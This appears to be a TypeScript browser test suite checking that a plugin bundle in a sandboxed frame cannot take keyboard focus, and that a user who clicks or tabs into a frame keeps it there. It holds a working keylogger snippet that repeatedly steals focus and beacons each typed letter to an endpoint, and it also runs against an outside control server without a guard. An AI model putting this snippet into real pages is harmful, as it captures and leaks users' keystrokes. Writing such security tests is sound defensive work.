import type { Page } from 'playwright-core';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { hasBrowser, openSession } from '../console/console-bench.ts';
import { eventually } from '../helpers/within.ts';
import { beside, closed, type Rig, startRig } from './attack-rig.ts';
import { extension, rootOf, stateOf } from './bundle-folder.ts';

const test = suite<Rig>('A bundle can not take the keyboard');

/** Whatever is typed into the frame is told to `where`, letter by letter. */
const stealing = (where: string) => `
  element.innerHTML = '<input>';
  const input = element.firstChild;
  input.oninput = () => { new Image().src = ${where} + 'typed?' + encodeURIComponent(input.value); };
  setInterval(() => { window.focus(); input.focus(); }, 15);`;

test.before(async (rig) => {
  const made = await startRig((bundles) => {
    bundles.add('steals', extension(stealing(`context.endpoint + '/plugins/steals/'`)));
    bundles.add(
      'asks',
      extension(
        `element.innerHTML = '<input><button>b</button>'; element.firstChild.oninput = ({ target }) => { target.nextSibling.textContent = target.value; };`,
      ),
    );
  });
  Object.assign(rig, made);
});
test.after((rig) => rig.close());

test('focus theft: the keyboard comes back at once, and the third time the thief is stopped', async (rig) => {
  const session = await rig.bench.newSession('Typing');
  await beside(rig, ['steals'], async (page) => {
    const typed = listen(page);
    await openSession(page, session);
    const composer = page.locator('.composer textarea');
    await composer.click();
    let pressed = 0;
    await eventually(
      40_000,
      async () => {
        pressed++;
        await page.keyboard.press('x');
        return pressed >= 17 && (await page.locator('iframe[title="steals: x"]').count()) === 0;
      },
      'the end of the thief',
    );
    // Letters that were on their way when the frame took the keyboard can't be called back; without the guard all reach it.
    assert.ok(typed.length <= pressed / 2, `${typed.length} of ${pressed} letters reached the frame`);
    console.log(
      `\nFIGURE letters that reached a frame that steals the keyboard every 15 ms: ${typed.length} of ${pressed}`,
    );
    assert.ok((await composer.inputValue()).length > 0, 'the composer got letters');
    await page.evaluate(`location.hash = '#/settings/plugins'`);
    await stateOf(page, 'steals', 'quarantined').waitFor({ timeout: 40_000 });
    assert.match(await page.locator('[data-plugin="steals"] .problem').innerText(), /keyboard three times/);
  });

  const { foreign, bench } = rig;
  const context = await bench.browser.newContext();
  const page = await context.newPage();
  await page.goto(`${foreign.control.url}page`);
  await page.evaluate(`document.body.innerHTML = '<textarea></textarea>'; document.querySelector('textarea').focus();
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    frame.srcdoc = '<body><div></div><script>const element = document.querySelector("div"); ${stealing(`"${foreign.control.url}"`).replaceAll("'", "\\'").replaceAll('\n', ' ')}</' + 'script>';
    document.body.append(frame);`);
  const heard = () => foreign.control.heard.some((path) => path.startsWith('/typed?'));
  await eventually(
    20_000,
    async () => {
      await page.keyboard.press('x');
      return heard();
    },
    'the same without a guard',
  );
  await closed(context);
});

test('a person who clicks into a frame, or tabs into it, keeps the keyboard there', async (rig) => {
  const session = await rig.bench.newSession('Forms');
  await beside(rig, ['asks'], async (page) => {
    await openSession(page, session);
    const input = rootOf(page, 'asks').locator('input');
    const echo = rootOf(page, 'asks').locator('button');
    await page.locator('.composer textarea').click();
    await page.keyboard.type('first here');
    await input.click();
    await eventually(
      10_000,
      async () => (await page.evaluate('document.activeElement.title')) === 'asks: x',
      'the focus in the frame',
    );
    await page.keyboard.type('hello');
    await echo.filter({ hasText: 'hello' }).waitFor();
    await page.locator('.composer textarea').click();
    await page.keyboard.type(', then here');
    assert.is(await page.locator('.composer textarea').inputValue(), 'first here, then here');

    await page.locator('.search input, input[type="search"]').first().focus();
    await eventually(
      20_000,
      async () => {
        await page.keyboard.press('Tab');
        return (await page.evaluate('document.activeElement.title')) === 'asks: x';
      },
      'the focus in the frame by the Tab key',
    );
    await page.keyboard.type('!');
    await eventually(10_000, async () => /!/.test((await echo.textContent()) ?? ''), 'what was typed there');
    await page.evaluate(`location.hash = '#/settings/plugins'`);
    await stateOf(page, 'asks', 'ready').waitFor();
  });
});

function listen(page: Page): string[] {
  const typed: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('typed?')) typed.push(request.url());
  });
  return typed;
}

if (hasBrowser()) test.run();
